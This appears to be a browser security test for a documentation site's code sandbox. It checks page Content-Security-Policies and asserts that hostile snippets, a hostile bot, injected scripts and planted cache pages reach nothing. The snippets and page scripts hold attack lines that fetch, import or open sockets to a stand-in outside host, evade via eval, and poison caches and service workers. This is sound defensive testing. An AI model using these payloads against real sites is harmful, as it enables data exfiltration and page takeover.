/** Guards the site against strangers: what their code and their links do, they reach nothing of it.
 *
 * Runs hostile snippets, a hostile bot and hostile links on the built site, in Chromium: nothing leaves the page, nothing that the browser
 * keeps for the site changes, and the page goes on. Looks at every page as well: a policy names each script that may run there.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import type { Page } from 'playwright-core';
import { FRAME_SUM, inlineScripts, sumOf } from '../../docs/.vitepress/sandbox/policy.js';
import { load } from '../../packages/core/src/records/index.js';
import { holds, LOOKS, onSite, type Site, serve } from '../lib/browser.js';
import { games } from '../lib/games.js';
import { root } from '../lib/packages.js';
import { pagesIn } from '../site/pages.js';

/** A text as the fragment of a link. */
const packed = (text: string): string => deflateRawSync(text).toString('base64url');

/** What is wrong with the policy of a page. */
function policyFaults(html: string): readonly string[] {
  const [, policy = ''] = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html) ?? [];
  const [, scripts = ''] = /script-src ([^;]*)/.exec(policy) ?? [];
  const allowed = scripts.split(' ');
  const sums = inlineScripts(html).map(sumOf);
  const strange = allowed.filter((each) => each !== "'self'" && each !== FRAME_SUM && !sums.includes(each));
  return [
    ...(policy === '' || html.indexOf('http-equiv') > html.indexOf('<script') ? ['no policy before its scripts'] : []),
    ...(strange.length > 0 ? [`its policy allows ${strange}`] : []),
    ...sums.filter((sum) => !allowed.includes(sum)).map((sum) => `a script that its policy does not allow: ${sum}`),
    ...(html.match(/<[^>]* on[a-z]+="[^"]*"/g) ?? []).map((found) => `a script in an attribute: ${found}`),
  ];
}

/** What strangers try in a snippet, with the address of a host of theirs, and what the page says of it. */
const snippets = (theirs: string): readonly (readonly [code: string, says: RegExp])[] => [
  ['<!-- */ }; fetch("/taken"); {\nconsole.log(1);', /Line 1: <!-- is a comment of HTML/],
  ['1\n--> fetch("/taken")', /Line 2: --> is a comment of HTML/],
  [`}; fetch('${theirs}/taken', { mode: 'no-cors' }); async () => {`, /./],
  [
    `WorkerGlobalScope.prototype.setTimeout.call(self, "import('${theirs}/taken.js')");\nawait new Promise((r) => setTimeout(r, 500));`,
    /^Ran in /,
  ],
  [`await new Function('return import("${theirs}/taken.js")')();`, /^Line 1: EvalError/],
  [`(0, eval)("import('${theirs}/taken.js')");`, /^Line 1: EvalError/],
  [`console.log(\`\${await import('${theirs}/taken.js')}\`);`, /There is no module/],
  [`importScripts('${theirs}/taken.js');`, /^Line 1: NetworkError/],
  [`await fetch('${theirs}/taken', { mode: 'no-cors' });`, /^TypeError|^Line 1: TypeError/],
  ['await fetch(new URL("/taken", "SITE"), { mode: "no-cors" });', /^TypeError|^Line 1: TypeError/],
  [`new WebSocket('${theirs.replace('http', 'ws')}/taken');\nawait new Promise((r) => setTimeout(r, 300));`, /./],
  [`new EventSource('${theirs}/taken');\nawait new Promise((r) => setTimeout(r, 300));`, /./],
  [
    `const inner = "fetch('${theirs}/taken', { mode: 'no-cors' }).finally(() => postMessage(1))";\nconst w = new Worker(URL.createObjectURL(new Blob([inner])));\nawait new Promise((r) => { w.onmessage = r; w.onerror = r; setTimeout(r, 2000); });`,
    /./,
  ],
  [
    'const cache = await caches.open((await caches.keys())[0] ?? "taken");\nawait cache.put("SITE/play.html", new Response("taken"));',
    /Error/,
  ],
  ['indexedDB.open("taken");\nconsole.log(1);', /SecurityError/],
  ['navigator.serviceWorker.register("/sw.js");', /TypeError/],
  ['for (;;) postMessage({ kind: "printed", level: "log", values: [] });', /more than a page can show/],
  [
    'postMessage({ kind: "printed", level: "log", values: [{ as: "list", head: "", parts: [["a", null]] }] });',
    /no page can show/,
  ],
  ['postMessage({ kind: "failed", says: { toString: 1 } });', /no page can show/],
  [
    "console.log(\"<svg xmlns='http://www.w3.org/2000/svg' onload='top.taken = 1'><script>top.taken = 1</script></svg>\");",
    /^Ran in /,
  ],
];

/** Runs in the page: everything that the browser keeps for the site. */
const KEPT = `(async () => {
  const names = await caches.keys();
  const entries = await Promise.all(names.map(async (name) => {
    const cache = await caches.open(name);
    const bodies = (await cache.keys()).map(async (request) => request.url + ' ' + (await (await cache.match(request)).text()).length);
    return [name, ...(await Promise.all(bodies))];
  }));
  const bases = (await indexedDB.databases()).map(({ name }) => name);
  return JSON.stringify({ entries: entries.flat().sort(), bases, storage: { ...localStorage }, taken: 'taken' in window });
})()`;

/** Runs hostile snippets, each of which a link has brought. */
async function runSnippets({ origin, open, expect }: Site, theirs: string): Promise<number> {
  const page = await open({ ...LOOKS['on a desk'], strangers: true });
  await page.goto(`${origin}/getting-started.html`);
  await page.evaluate('caches.open("ours").then((cache) => cache.put("/play.html", new Response("ours")))');
  const before = await page.evaluate<string>(KEPT);
  const tried = snippets(theirs);
  for (const [code, says] of tried) {
    await page.goto('about:blank');
    await page.goto(`${origin}/getting-started.html#edit-1/${packed(code.replaceAll('SITE', origin))}`);
    await page.locator('.cm-content').first().waitFor();
    await page.locator('.snippet-bar .run').first().click();
    await page.locator('.run-result[data-ending]:not([data-ending=running])').waitFor({ timeout: 30_000 });
    const said = (await page.locator('.run-result [role=status]').textContent()) ?? '';
    expect(`${code} says ${said}`, says.test(said));
  }
  const after = await page.evaluate<string>(KEPT);
  expect(`what the browser keeps was ${before} and is ${after}`, before === after);
  await page.close();
  return tried.length;
}

/** Races a bot that tries the same as it loads, and as it moves. */
async function raceBot({ origin, open, expect }: Site, theirs: string): Promise<void> {
  const page = await open({ ...LOOKS['on a desk'], strangers: true });
  const attack = `fetch('${theirs}/taken', { mode: 'no-cors' }).catch(() => 0); try { caches.open('taken'); } catch {}`;
  const source = `${attack}\nexport const mine = () => ({ legal }) => { ${attack}; return { move: legal[0], candidates: [] }; };`;
  await page.goto(`${origin}/lab.html#${packed(JSON.stringify({ source, game: 'duel-solo' }))}`);
  await page.locator('.cm-content').waitFor();
  await page.locator('.lab .race').click();
  await page.locator('.games button').first().waitFor({ timeout: 120_000 });
  const { entries } = JSON.parse(await page.evaluate<string>(KEPT));
  expect(`a bot writes into a cache: ${entries}`, entries.length === 0);
  await page.close();
}

/** Opens links with positions that nobody can come to. */
async function openLinks({ origin, open, expect }: Site): Promise<void> {
  const { game } = (await games()).find(({ pkg }) => pkg.id === 'hal') ?? {};
  if (game === undefined) throw new Error('there is no hal');
  const read = load(game, readFileSync(join(root, 'examples/saves/hal.json'), 'utf8'));
  if (!read.ok) throw new Error(read.issue.message);
  const view = JSON.parse(JSON.stringify(game.view(read.playthrough.state, 0)));
  const page = await open(LOOKS['on a desk']);
  for (const [what, text] of [
    ['a view with a building far away', JSON.stringify({ ...view, city: [{ ...view.city[0], x: 1e6 }] })],
    ['a view of a seat that is not there', JSON.stringify({ ...view, viewer: 1e9 })],
    ['a state that is none', JSON.stringify({ ...view, viewer: null, city: [{ ...view.city[0], x: 1e6 }] })],
    ['a text of a hundred megabytes', `"${'a'.repeat(100_000_000)}"`],
    ['no game', '{"game":"__proto__","viewer":0}'],
  ] as const) {
    await page.goto('about:blank');
    await page.goto(`${origin}/explorer.html#hal/${packed(text)}`);
    const alert = page.getByRole('alert');
    await alert.waitFor({ timeout: 10_000 }).catch(() => undefined);
    expect(`${what} is drawn`, (await page.locator('.explorer .board svg').count()) === 0);
    expect(`${what} is not refused`, await alert.isVisible());
  }
  await page.close();
}

/** Runs in the page: brings it scripts in the ways in which a page can be brought scripts; gives those that have run. */
const BROUGHT = `(async () => {
  window.ran = [];
  const box = document.createElement('div');
  box.innerHTML = '<img src="data:," onerror="ran.push(\\'attribute\\')"><a href="javascript:ran.push(\\'address\\')">a</a>';
  document.body.append(box);
  box.querySelector('a').click();
  const script = document.createElement('script');
  script.textContent = "ran.push('script')";
  box.append(script);
  const other = document.createElement('script');
  other.src = URL.createObjectURL(new Blob(["ran.push('blob')"], { type: 'text/javascript' }));
  box.append(other);
  await new Promise((resolve) => setTimeout(resolve, 500));
  box.remove();
  return ran;
})()`;

async function bringScripts({ origin, open, expect }: Site, page: Page): Promise<void> {
  for (const path of ['index', 'play', 'lab', 'explorer', 'lessons', 'getting-started']) {
    await page.goto(`${origin}/${path}.html`);
    const ran = await page.evaluate<readonly string[]>(BROUGHT);
    expect(`${path}.html runs a script that was brought as ${ran}`, ran.length === 0);
  }
  await page.close();
  // Nothing that the pages themselves do is against their policy.
  const calm = await open(LOOKS['on a phone']);
  calm.on('console', (message) => expect(message.text(), !/Content Security Policy/.test(message.text())));
  for (const path of ['index', 'play', 'lab', 'explorer', 'lessons', 'puzzles', 'rules/hal', 'api/index']) {
    await calm.goto(`${origin}/${path}.html`, { waitUntil: 'networkidle' });
  }
  await calm.close();
}

/** Runs in the page: puts other pages in place of the site's into every cache that its service worker may read. */
const PLANT = `(async () => {
  const names = new Set([...(await caches.keys()), 'kept', 'seen']);
  for (const name of names) {
    const cache = await caches.open(name);
    for (const { url } of await cache.keys()) if (url.includes('play.html')) await cache.delete(url);
    for (const path of ['play.html', 'lab.html', 'planted.html', 'later.json'])
      await cache.put('/' + path, new Response('<p id="taken">taken</p>', { headers: { 'content-type': 'text/html' } }));
  }
})()`;

/** Whoever writes into a cache of the site, its service worker answers with what the site has. */
async function plantPages({ origin, open, expect }: Site): Promise<void> {
  const page = await open({ ...LOOKS['on a desk'], serviceWorkers: 'allow' });
  await page.goto(`${origin}/play.html`);
  await page.evaluate('navigator.serviceWorker.ready.then(() => true)');
  await holds(page, 'navigator.serviceWorker.controller !== null', 60_000);
  await page.evaluate(PLANT);
  for (const path of ['play.html', 'lab.html', 'planted.html']) {
    // One of them is not there.
    await page.goto(`${origin}/${path}`).catch(() => undefined);
    expect(`a planted ${path} is answered`, (await page.locator('#taken').count()) === 0);
  }
  await page.close();
}

await onSite(async (site) => {
  const pages = pagesIn(site.dist);
  for (const path of [...pages, '404.html'])
    for (const fault of policyFaults(readFileSync(join(site.dist, path), 'utf8'))) site.complain(`${path}: ${fault}`);
  const theirs = await serve(
    join(root, 'docs/public'),
    { '/taken.js': 'postMessage("taken")' },
    { 'access-control-allow-origin': '*' },
  );
  try {
    await bringScripts(site, await site.open());
    const tried = await runSnippets(site, theirs.origin);
    await raceBot(site, theirs.origin);
    await openLinks(site);
    await plantPages(site);
    for (const path of theirs.asked) site.complain(`code of a stranger has asked another host for ${path}`);
    for (const path of site.asked.filter((each) => each.includes('taken')))
      site.complain(`code of a stranger has asked the site for ${path}`);
    return `${pages.length} pages have a policy; ${tried} snippets, a bot and the links of strangers reach nothing`;
  } finally {
    theirs.close();
  }
});
